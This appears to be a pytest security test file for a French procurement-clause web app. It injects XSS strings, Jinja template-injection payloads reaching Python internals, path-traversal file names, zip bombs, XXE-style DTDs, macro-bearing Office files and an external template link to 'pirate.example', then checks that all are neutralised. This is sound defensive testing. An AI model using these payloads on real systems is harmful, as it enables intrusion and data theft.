"""Scripts and templates typed in every box, dropped in every file: shown as they are, never interpreted."""

from __future__ import annotations

import html
import io
import re
import zipfile

import openpyxl
import pytest

pytest.importorskip("flask")

from clausegen.web.pages import pages
from clausegen.web.televersement import nom_sur
from tests.web.charge import multipart
from tests.web.conftest import BASE

BALISE = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
MODELE = "{{ 7*191 }}{% for i in range(9) %}{{ i }}{% endfor %}{{ ''.__class__.__mro__ }}${7*191}"
SCRIPT = f"{BALISE} {MODELE}"
ECRANS = ("", "/lots", "/clauses", "/clauses?etat=toutes", "/pieces", "/fichier")


def inoffensif(page: str) -> None:
    """No element was made, nothing was worked out."""
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "1337" not in page and "012345678" not in page and "mappingproxy" not in page and "&lt;class " not in page


def test_every_text_box(visiteur):
    """One page of the form after the other, every free text of the page at once."""
    fichier = visiteur.marche("travaux-residence")
    ecrits = 0
    # Before anything is typed: the number could be there of itself.
    assert "1337" not in fichier.read_text(encoding="utf-8")
    for page in [p for p in pages({"lots": [{}]}) if not p.criteres]:
        adresse = f"/m/marche/saisie/{page.slug}"
        donnees = dict(visiteur.formulaire(adresse))
        libres = ["c." + ".".join(page.relatif(s)) for s in page.saisies if s.genre == "texte" and not s.choix]
        # Boxes that wait for a number, a date or a code are typed the same: the fault shows the text too.
        autres = ["c." + ".".join(page.relatif(s)) for s in page.saisies if s.genre in ("montant", "date", "code")][:1]
        donnees |= dict.fromkeys([n for n in libres if n in donnees], SCRIPT)
        reponse = visiteur.envoyer(adresse, donnees)
        assert reponse.status_code in (303, 422)
        ecrits += sum(n in donnees for n in libres)
        if autres and autres[0] in donnees:
            fautive = visiteur.envoyer(adresse, donnees | {autres[0]: SCRIPT})
            inoffensif(fautive.get_data(as_text=True))
            visiteur.envoyer(adresse, donnees)
        revue = visiteur.page(adresse)
        inoffensif(revue)
        assert not libres or html.unescape(revue).count(MODELE) >= 1, f"{page.slug} : montré tel quel"
    assert ecrits > 20
    for ecran in ECRANS:
        inoffensif(
            visiteur.client.get(f"/m/marche{ecran}", base_url=BASE, follow_redirects=True).get_data(as_text=True)
        )


def test_the_pieces_print_it_verbatim(visiteur):
    fichier = visiteur.marche("plus-court")
    donnees = dict(visiteur.formulaire("/m/marche/saisie/objet-du-marche")) | {
        "c.objet": SCRIPT,
        "c.description": SCRIPT,
    }
    visiteur.envoyer("/m/marche/saisie/objet-du-marche", donnees)
    assert MODELE.split("{%")[0] in fichier.read_text(encoding="utf-8")
    inoffensif(visiteur.page("/m/marche/pieces/ccap"))
    with zipfile.ZipFile(io.BytesIO(visiteur.lire("/m/marche/telecharger/pieces.zip").data)) as archive:
        for nom in archive.namelist():
            octets = archive.read(nom)
            if nom.endswith(".docx"):
                with zipfile.ZipFile(io.BytesIO(octets)) as piece:
                    corps = piece.read("word/document.xml").decode()
                texte = html.unescape(re.sub(r"<[^>]+>", "", corps))
                assert "1337" not in texte and "012345678" not in texte
            elif nom.endswith(".html"):
                inoffensif(octets.decode())


@pytest.mark.parametrize(
    "adresse",
    [
        "/bibliotheque?mots={}",
        "/bibliotheque?famille={}",
        "/m/{}/",
        "/bibliotheque/clause/{}",
        "/bibliotheque/gabarit/{}",
        "/programme/{}",
    ],
)
def test_addresses(visiteur, adresse):
    from urllib.parse import quote

    reponse = visiteur.client.get(adresse.format(quote(SCRIPT, safe="")), base_url=BASE)
    assert reponse.status_code in (200, 400, 404)
    inoffensif(reponse.get_data(as_text=True))


def test_a_table_and_its_name(visiteur):
    classeur = openpyxl.Workbook()
    for ligne in (
        ["Objet du marché", "Montant HT", "CPV"],
        [SCRIPT, 100_000, "90911200"],
        ['=HYPERLINK("http://x")', SCRIPT, SCRIPT],
    ):
        classeur.active.append(ligne)
    classeur.active.title = "a{{b}}"
    flux = io.BytesIO()
    classeur.save(flux)
    reponse = visiteur.envoyer(
        "/programme", {"fichier": (io.BytesIO(flux.getvalue()), "../../<b onclick=x>{{7*191}}.xlsx"), "date": ""}
    )
    assert reponse.status_code == 303
    page = visiteur.page(reponse.headers["Location"])
    inoffensif(page)
    assert MODELE in html.unescape(page)
    texte = visiteur.lire(f"{reponse.headers['Location']}/markdown").get_data(as_text=True)
    assert "script" in texte and not re.search(r"(?<!\\)<(?!!-- clausegen)", texte), (
        "en Markdown, chaque chevron est échappé"
    )


def test_a_gabarit_is_not_run_on_its_own_words(visiteur):
    """What a dropped gabarit asks for is examined in the sandbox; nothing of the machine comes back."""
    import docx

    from clausegen.library import shipped_templates

    document = docx.Document(shipped_templates() / "ccap.docx")
    document.add_paragraph("{{ ''.__class__.__mro__[1].__subclasses__() }}")
    document.add_paragraph("{{ marche.__init__.__globals__ }}{% for i in range(10**9) %}x{% endfor %}")
    flux = io.BytesIO()
    document.save(flux)
    reponse = visiteur.envoyer("/bibliotheque/gabarit", {"fichier": (io.BytesIO(flux.getvalue()), "g.docx")})
    assert reponse.status_code == 303
    page = visiteur.page(reponse.headers["Location"])
    assert "bloquant" in page and "&lt;class" not in page and "<class" not in page and "__builtins__" not in page


def _zip(parties: dict[str, str]) -> bytes:
    flux = io.BytesIO()
    with zipfile.ZipFile(flux, "w", zipfile.ZIP_DEFLATED) as archive:
        for nom, contenu in parties.items():
            archive.writestr(nom, contenu)
    return flux.getvalue()


_BASE = {
    "[Content_Types].xml": "<Types/>",
    "word/document.xml": "<w/>",
    "word/_rels/document.xml.rels": "<Relationships/>",
}
_CLASSEUR = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"}
PIEGES = {
    "bombe.docx": _zip({**_BASE, "word/media/x.xml": "0" * 40_000_000}), "noms.docx": _zip({**_BASE, "../../dehors.xml": "x"}),
    "macros.docx": _zip({**_BASE, "word/vbaProject.bin": "x"}), "dtd.docx": _zip({**_BASE, "word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
    "foule.docx": _zip({**_BASE, **{f"word/x{i}.xml": "" for i in range(2_100)}}),
    "ailleurs.docx": _zip({**_BASE, "word/_rels/document.xml.rels": '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://pirate.example/x.dotm" TargetMode="External"/></Relationships>'}),
}  # fmt: skip
TABLEAUX = {
    "bombe.xlsx": _zip({**_CLASSEUR, "xl/worksheets/sheet1.xml": "0" * 40_000_000}), "noms.xlsx": _zip({**_CLASSEUR, "../x": "x"}),
    "macros.xlsx": _zip({**_CLASSEUR, "xl/vbaProject.bin": "x"}), "dtd.xlsx": _zip({**_CLASSEUR, "xl/workbook.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
    "profond.json": b"[" * 200_000, "abime.xlsx": b"PK\x03\x04 non",
}  # fmt: skip


@pytest.mark.parametrize("nom", PIEGES)
def test_a_trap_for_the_check_of_gabarits(visiteur, nom):
    reponse = visiteur.envoyer("/bibliotheque/gabarit", {"fichier": (io.BytesIO(PIEGES[nom]), nom)})
    assert reponse.status_code == 303
    page = visiteur.page(reponse.headers["Location"])
    assert re.search(r"CG30\d", page) and "bloquant" in page and "Traceback" not in page
    assert not list(visiteur.dossier.iterdir())


@pytest.mark.parametrize("nom", TABLEAUX)
def test_a_trap_for_the_programme(visiteur, nom):
    reponse = visiteur.envoyer("/programme", {"fichier": (io.BytesIO(TABLEAUX[nom]), nom)})
    texte = reponse.get_data(as_text=True)
    assert reponse.status_code == 422 and 'role="alert"' in texte and "Traceback" not in texte and "/tmp" not in texte


@pytest.mark.parametrize("adresse", ["/bibliotheque/gabarit", "/programme", "/importer"])
def test_too_heavy(visiteur, adresse):
    corps, limite = multipart({}, "fichier", "a.docx", b"0" * 11_000_000)
    reponse = visiteur.envoyer(adresse, corps, content_type=f"multipart/form-data; boundary={limite}")
    assert reponse.status_code == 413 and "10" in reponse.get_data(as_text=True)


@pytest.mark.parametrize(
    ("nom", "attendu"),
    [("../../etc/passwd.docx", "passwd.docx"), ("C:\\Users\\x\\g.docx", "g.docx"), ("a\x00b.docx", "ab.docx"), ("\u202exslx.docx", "xslx.docx"),
     ("...", ""), ("<b>.docx", "b.docx"), ("é" * 300 + ".docx", "é" * 110 + ".docx")],
)  # fmt: skip
def test_names_are_never_paths(nom, attendu):
    assert nom_sur(nom) == attendu


def test_what_the_browser_says_of_our_own_forms_is_admitted(visiteur):
    """Under « no-referrer » Chromium sends « Origin: null » beside « Sec-Fetch-Site: same-origin »."""
    reponse = visiteur.envoyer("/nouveau", {"objet": "Nettoyage"}, {"Sec-Fetch-Site": "same-origin", "Origin": "null"})
    assert reponse.status_code == 303
    assert (
        visiteur.envoyer(
            "/nouveau", {"objet": "Nettoyage"}, {"Sec-Fetch-Site": "cross-site", "Origin": "null"}
        ).status_code
        == 403
    )


def test_another_session_reads_nothing_of_a_check(intranet):
    jeton = re.search(r'name="_csrf" value="(\w+)"', intranet.page("/bibliotheque/gabarit"))[1]
    reponse = intranet.envoyer(
        "/bibliotheque/gabarit", {"fichier": (io.BytesIO(b"rien"), "secret.docx"), "_csrf": jeton}
    )
    lieu = reponse.headers["Location"]
    assert "secret.docx" in intranet.page(lieu)
    autre = intranet.app.test_client()
    assert autre.get(lieu, base_url=intranet.base).status_code == 404
    assert intranet.envoyer("/bibliotheque/gabarit", {"fichier": (io.BytesIO(b"rien"), "x.docx")}).status_code == 403, (
        "sans jeton de formulaire"
    )


def test_results_are_forgotten_and_bounded():
    from clausegen.web.garde_temps import GardeTemps

    garde = GardeTemps(duree=60, max_entrees=3, max_octets=1_000)
    noms = [garde.garder("s", str(i), 100) for i in range(5)]
    assert [garde.rendre("s", n, str) for n in noms] == [None, None, "2", "3", "4"]
    lourd = garde.garder("s", "lourd", 950)
    assert garde.rendre("s", lourd, str) == "lourd" and garde.rendre("s", noms[4], str) is None
    bref = GardeTemps(duree=-1)
    assert bref.rendre("s", bref.garder("s", "x", 1), str) is None
